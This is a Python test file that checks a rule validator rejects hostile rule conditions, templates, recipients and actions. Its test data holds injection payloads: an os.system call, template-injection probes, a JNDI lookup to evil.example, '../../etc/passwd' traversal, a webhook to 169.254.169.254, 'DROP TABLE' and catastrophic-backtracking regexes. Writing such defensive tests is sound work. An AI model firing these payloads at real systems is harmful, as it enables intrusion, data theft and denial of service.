"""Rows 73, 74 and 77 of the hostile-content suite: conditions, texts, people and actions that try too much."""

from contextlib import suppress
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nlp.errors import ContentInvalid
from service.domain.playbooks.judging import judge
from service.domain.playbooks.rules import Rule, RuleFailed, durations_in
from service.domain.playbooks.timeline import Timeline
from tests.support.cost import cpu_ms
from tests.support.hostile_content import EVALUATION_MS, GOOD, READER, WHEN, assert_placed, faults_of, line_of
from tests.support.playbooks import a_fact, china, rule_text
from tests.support.shelf import shipped_shelf


def with_condition(text: str) -> str:
    return rule_text(WHEN, "'" + text.replace("'", "''") + "'")


ILL = [
    ("stage.colour == 1", "undeclared reference"),
    ("nothing", "undeclared reference"),
    ("stage.text", "not true or false"),
    ("calls.n", "not true or false"),
    ("null", "not true or false"),
    ('"true"', "not true or false"),
    ("calls.n > 1.5", "no matching overload"),
    ("calls.n > '1'", "no matching overload"),
    ("stage.age > 3", "no matching overload"),
    ("stage.text > 3", "no matching overload"),
    ("calls.n.startsWith('a')", "no matching overload"),
    ("calls.n in leads.values", "no matching overload"),
    ("leads.values == 1.0", "no matching overload"),
    ("!calls.n", "no matching overload"),
    ("calls.n ? true : false", "no matching overload"),
    ("calls.n > 99999999999999999999", "invalid int literal"),
    ("stage.text == 'a", "Syntax error"),
    ("calls.n > ", "Syntax error"),
    ("calls.n > 1; true", "Syntax error"),
    ("(lambda: 1)() == 1", "Syntax error"),
    ("calls.n = 1", "Syntax error"),
    ("calls.n > 1 and true", "Syntax error"),
    ("__import__('os').system('id') == 0", "undeclared reference"),
    ("stage.?text.hasValue()", "unsupported syntax"),
    ("stage['text'] == 'a'", "undeclared reference"),
    ("has(stage.secret)", "undeclared reference"),
    ("stage.text.replace('a', stage.text) == ''", "undeclared reference"),
    ("'%s'.format([stage.text]) == ''", "undeclared reference"),
    ("lists.range(1000000).all(x, x >= 0)", "undeclared reference"),
    ('"a" * 1000000 == ""', "no matching overload"),
    ("dyn(1) == 'a'", "is not for rules"),
    ("type(calls.n) == int", "is not for rules"),
    ("google.protobuf.Any{type_url: 'x'} == null", "is not for rules"),
    ("bytes(stage.text) == b'a'", "is not for rules"),
    ("calls.n > 1 // and so on", "is not for rules"),
    ("stage.text == '''a'''", "is not for rules"),
    ("stage.age > duration('72h')", "days(3)"),
    ("stage.age > timestamp ('2020-01-01T00:00:00Z')", "days(3)"),
    ("stage.age > days(-3)", "days(3)"),
    ("stage.age > days(1000000)", "days(3)"),
    ("stage.age > days(calls.n)", "days(3)"),
    ("stage.age > [3].map(x, days(x))[0]", "days(3)"),
]  # fmt: skip
V = "leads.values"
COSTLY = [
    ("(" * 250 + "calls.n > 1" + ")" * 250, "nested too deeply"),
    ("[" * 200 + "]" * 200 + " == []", "nested too deeply"),
    ("leads.values" + "[0]" * 150 + " > 1.0", "nested too deeply"),
    ("stage.text" + "+stage.text" * 45 + " == 'x'", "nested too deeply"),
    ("calls.n>1?true:" * 39 + "false", "nested too deeply"),
    ("calls.n > 1 || " * 100 + "false", "at most 600 characters"),
    (f"{V}.all(a, {V}.all(b, {V}.all(c, {V}.all(d, a < 1.0))))", "list functions"),
    (f"{V} . all (a, {V} . all (b, {V} . all (c, {V} . all (d, a < 1.0))))", "list functions"),
    (f"{V}.map(a, {V}.map(b, {V}.map(c, {V}.map(d, a)))).size() > 1", "list functions"),
    (f"{V}.exists(a, a > 1.0) || {V}.exists_one(a, a > 1.0) || {V}.filter(a, a > 1.0).map(a, a).size() > 1",
     "list functions"),
]  # fmt: skip
PATTERNS = [
    ("stage.text.matches('(')", "is no pattern"),
    ("stage.text.matches('[a-')", "is no pattern"),
    ("stage.text.matches('(?<=a)b')", "is no pattern"),  # looking back is what makes others backtrack
    (r"stage.text.matches(r'(a)\1')", "is no pattern"),
    ("stage.text.matches('(((a{1,1000}){1,1000}){1,1000})')", "200 repeats"),
    ("stage.text.matches('(a{1,100}){1,10}(b{1,100}){1,10}c')", "200 repeats"),
    ("stage.text.matches('" + "(a|b|ab)*" * 20 + "c')", "100 characters"),
    ("'x'.matches(stage.text)", "one text in quotes"),
    ("stage.text.matches('^' + stage.text)", "one text in quotes"),
    ("matches(stage.text, '(a+)+$')", "one text in quotes"),
    ("stage.text.matches\n (stage.text)", "one text in quotes"),
]


@pytest.mark.parametrize(("condition", "says"), [*ILL, *COSTLY, *PATTERNS])
@pytest.mark.parametrize("key", ["condition", "unless"])
def test_a_bad_condition_is_refused_under_its_key(key: str, condition: str, says: str) -> None:
    quoted = "'" + condition.replace("'", "''") + "'"
    text = rule_text(WHEN, quoted) if key == "condition" else rule_text(WHEN, "'true'", more=f"unless: {quoted}")
    (said,) = faults_of(text)
    assert said.startswith(f"rule.yaml:{line_of(text, f'{chr(10)}{key}: ') + 1}: key `{key}`: ")
    assert says in said


def values_for(rule: Rule) -> dict[str, Any]:
    """Values as large as they may come, for every name that the condition reads."""
    large: dict[str, Any] = {"stage.text": "a" * 20_000 + "!", "stage.value": "x" * 20_000, "calls.n": 10**6,
                             "leads.values": [0.5] * 26}  # fmt: skip
    names = rule.conditions["condition"].names  # type: ignore[attr-defined]
    return {name: large.get(name, timedelta(days=1)) for name in names}


@pytest.mark.parametrize(
    "condition",
    [
        "stage.text.matches('^(a+)+$')",
        "stage.text.matches('(x+x+)+y')",
        "stage.text.matches('^(([a-z])+.)+[A-Z]([a-z])+$')",
        "stage.text.matches('(.*)(.*)(.*)(.*)(.*)(.*)(.*)(.*)(.*)z')",
        "stage.text.matches('(a?){20}(a){10}$')",
        "stage.text.matches('([a-z]{1,14}){1,14}$')",
        "leads.values.all(a, leads.values.all(b, leads.values.all(c, a + b + c < 9.0)))",
        "[" + ",".join(["1"] * 90) + "].all(x, [" + ",".join(["1"] * 90) + "].all(y, x == y))",
        "!" * 500 + "(calls.n > 1)",
        "leads.values.map(x, leads.values.map(y, leads.values)).size() > 1",
        "calls.n + 9223372036854775807 > 0",
        "calls.n / 0 > 1",
        "leads.values[100] > 1.0",
        "stage.value > 3",
        "stage.value.startsWith('a') && stage.value < 3",
    ],
)
def test_what_is_allowed_ends_soon_or_fails_as_a_rule_that_cannot_be_told(condition: str) -> None:
    rule = READER.read(with_condition(condition), source="rule.yaml")
    values, told = values_for(rule), set[str]()

    def evaluate() -> None:
        try:
            told.add(str(rule.conditions["condition"].holds(values)))
        except RuleFailed as caught:
            told.add(str(caught))

    assert cpu_ms(evaluate) < EVALUATION_MS
    (answer,) = told
    assert answer in ("True", "False") or condition in answer


def test_row_74_all_shipped_rules_look_at_one_recordings_subjects_within_its_budget() -> None:
    book, at = shipped_shelf().shipped, china("2026-03-30 09:00")
    texts = dict.fromkeys(("stage", "budget_status", "contact_name", "next_action", "grade"), "a" * 20_000 + "!")
    lines = {
        kind: Timeline.of((kind, "x-1"), [
            a_fact(f"{kind}.updated", f"2026-03-{day:02} 08:00", kind=kind, id_="x-1", **texts) for day in range(1, 29)
        ])
        for kind in ("opportunity", "account", "visit")
    }  # fmt: skip
    rules = [rule for rule in book.rules if rule.book.subject in lines]
    assert len(rules) >= 12

    def look() -> None:
        for rule in rules:
            with suppress(RuleFailed):
                judge(rule, lines[rule.book.subject], at)

    assert cpu_ms(look) < EVALUATION_MS


def test_a_duration_written_with_a_space_wakes_its_rule_too() -> None:
    assert durations_in(["stage.age > days (3)", "x > hours\n(2)"]) == (timedelta(hours=2), timedelta(days=3))


WORDS = ["stage.text", "calls.n", "leads.values", "&&", "||", "!", "(", ")", "[", "]", "{", "}", "'", '"', "==", ">",
         "1", "days(3)", ".all(x, ", ".matches(", " ", "\n", ".", ",", ":", "?", "%", "é", "价"]  # fmt: skip


@given(st.lists(st.sampled_from(WORDS), max_size=30).map("".join))
@settings(max_examples=150, deadline=None)
def test_any_condition_is_compiled_or_refused_as_content(text: str) -> None:
    try:
        READER.read(with_condition(text), source="rule.yaml")
    except ContentInvalid as caught:
        refused = str(caught)
        assert_placed(refused)


# --- texts, people, references ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__ }}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{config}}", "{{self}}",
        "{{request.application}}", "{{stage.text.__class__}}", "{{stage.secret}}", "{{ stage.text }}",
        "{{{{stage.text}}}}", "{{stage.text", "stage.text}}", "{0.__class__}", "{stage.text}", "${7*7}",
        "${jndi:ldap://evil.example/x}", "#{7*7}", "<%= system('id') %>", "%><%", "{# comment #}",
        "{% for a in range(999999999) %}x{% endfor %}", "{{subject|safe}}", "{{subject}}}}", "{{STAGE.text}}",
        "{{stage..text}}", "{{stage.text.text}}", "{{1}}", "{{}}", "{{ｓubject}}",
    ],
)  # fmt: skip
@pytest.mark.parametrize("place", ["notify", "tag", "pool", "task", "step"])
def test_row_73_no_template_is_ever_run_wherever_a_text_stands(place: str, text: str) -> None:
    quoted = "'" + text.replace("'", "''") + "'"
    action = {
        "notify": f"  - notify: {{to: [owner], text: {quoted}}}",
        "tag": f"  - tag: {{tag: x, action: {quoted}}}",
        "pool": f"  - move_to_pool: {{pool: {quoted}}}",
        "task": f"  - create_task: {{to: [owner], due_within: 1d, title: {quoted}}}",
        "step": "  - tag: {tag: x}",
    }[place]
    file = GOOD.replace("  - notify:", action + "\n  - notify:", 1)
    if place == "step":
        file += "clock:\n  respond_within: 1h\n  then:\n    - actions:\n"
        file += f"        - notify: {{to: [owner], text: {quoted}}}\n"
    (said,) = faults_of(file)
    assert said.startswith(f"rule.yaml:{line_of(file, quoted)}: key `")
    assert "name" in said


@pytest.mark.parametrize(
    "person",
    ["boss", "https://evil.example/hook", "person:../../etc/passwd", "person:<script>", "person:", "person:a b",
     "owner;x", "person:" + "a" * 200, "@all", "ＯＷＮＥＲ", "owner\\nmanager"],
)  # fmt: skip
def test_recipients_are_roles_or_plain_ids(person: str) -> None:
    text = GOOD.replace("[owner, manager]", f'["{person}"]')
    assert any(
        f"rule.yaml:{line_of(text, '- notify')}: key `actions.0.notify.to.0`" in fault for fault in faults_of(text)
    )


@pytest.mark.parametrize(
    ("action", "says"),
    [
        ("- push_pack: {to: [owner], text: x, talktrack: nobody_wrote_it}", "talktracks/"),
        ("- push_pack: {to: [owner], text: x, talktrack: ../../etc/passwd}", "talktrack"),
        ("- assign_course: {to: [owner], text: x, course: nobody_wrote_it}", "courses/"),
        ("- publish_score: {name: x_y, value: stage.secret}", "no attribute of a selection"),
        ("- publish_score: {name: x_y, value: os.environ}", "no attribute of a selection"),
        ("- notify: {to: [owner], text: x, links: ['https://evil.example']}", "links"),
        ("- notify: {to: [owner], text: x, links: ['last_mention:../x']}", "links"),
        ("- webhook: {url: 'http://169.254.169.254/'}", "unknown key"),
        ("- {notify: {to: [owner], text: x}, tag: {tag: y}}", "exactly one of"),
        ("- freeze_stage: {stage: x, sql: 'DROP TABLE'}", "unknown key"),
    ],
)  # fmt: skip
def test_an_action_reaches_nothing_but_what_is_known(action: str, says: str) -> None:
    text = GOOD.replace("  - notify:", f"  {action}\n  - notify:", 1)
    said = faults_of(text)
    assert says in said[0]
    assert f"rule.yaml:{line_of(text, action)}:" in said[0]
